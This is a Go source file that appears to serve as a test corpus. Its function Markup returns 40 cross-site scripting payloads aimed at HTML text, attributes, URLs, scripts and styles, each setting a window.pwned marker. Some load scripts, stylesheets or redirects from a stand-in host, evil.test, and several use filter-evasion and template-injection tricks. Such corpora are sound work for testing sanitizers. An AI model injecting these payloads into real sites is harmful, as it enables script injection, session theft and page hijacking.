package attack

// Markup returns 40 strings that are more than text where a page does not take care:
// in its text, in attributes with and without quotes, in addresses, in scripts and in
// styles. Each that runs sets window.pwned. None is longer than 128 bytes.
func Markup() []string {
	return []string{
		`<script>pwned=1</script>`,
		`<ScRiPt >pwned=1</sCrIpT >`,
		`<script src=data:,pwned=1></script>`,
		`<script src=//evil.test/x.js></script>`,
		`<img src=x onerror=pwned=1>`,
		`<img src=x onerror="pwned=1"`,
		`<svg onload=pwned=1>`,
		`<svg><script>pwned=1</script></svg>`,
		`<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`,
		`<body onload=pwned=1>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<iframe src=javascript:parent.pwned=1></iframe>`,
		`<object data=javascript:pwned=1></object>`,
		`<embed src=javascript:pwned=1>`,
		`<a href=javascript:pwned=1>x</a>`,
		`<form action=javascript:pwned=1><button>x</button></form>`,
		`<button formaction=javascript:pwned=1>x</button>`,
		`<input autofocus onfocus=pwned=1>`,
		`<details open ontoggle=pwned=1>x</details>`,
		`<video><source onerror=pwned=1></video>`,
		`<marquee onstart=pwned=1>x</marquee>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>`,
		`<style>@import'//evil.test/x.css'</style>`,
		`<link rel=stylesheet href=//evil.test/x.css>`,
		`<meta http-equiv=refresh content="0;url=//evil.test/">`,
		`<base href=//evil.test/>`,
		`<template><script>pwned=1</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
		`" onmouseover="pwned=1" autofocus onfocus="pwned=1`,
		`' onmouseover='pwned=1' autofocus onfocus='pwned=1`,
		` autofocus onfocus=pwned=1 x=`,
		`"><script>pwned=1</script>`,
		`'><script>pwned=1</script>`,
		`</title><script>pwned=1</script>`,
		`</textarea><script>pwned=1</script>`,
		`</option></select><img src=x onerror=pwned=1>`,
		`--><script>pwned=1</script>`,
		`javascript:pwned=1//`,
		`{{constructor.constructor('pwned=1')()}}`,
		"`${pwned=1}`</script><script>pwned=1</script>",
	}
}
